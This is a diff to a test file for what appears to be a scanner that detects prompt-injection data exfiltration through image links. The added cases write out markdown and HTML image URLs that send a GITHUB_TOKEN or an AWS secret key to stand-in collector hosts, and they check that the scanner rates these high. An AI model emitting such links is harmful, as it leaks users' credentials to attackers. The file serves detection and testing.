@@ -181,7 +181,10 @@ describe('CG-PI-006 encoded payloads', () => {
 
 describe('CG-PI-007 image exfiltration', () => {
   it('an image URL filled from a placeholder', () => {
-    expect(severityOf(md('![status](https://collector.example/p.png?d={{GITHUB_TOKEN}})\n'), 'CG-PI-007')).toBe('medium')
+    expect(severityOf(md('![status](https://collector.example/p.png?d={{PAGE_TITLE}})\n'), 'CG-PI-007')).toBe('medium')
+    // a placeholder that names a secret asks for that secret
+    expect(severityOf(md('![status](https://collector.example/p.png?d={{GITHUB_TOKEN}})\n'), 'CG-PI-007')).toBe('high')
+    expect(severityOf(md('<img src="https://c.example/t.gif?k=$AWS_SECRET_ACCESS_KEY">\n'), 'CG-PI-007')).toBe('high')
     expect(ids(md('![build](https://ci.example/badge.svg?branch=main)\n'))).not.toContain('CG-PI-007')
   })
 })
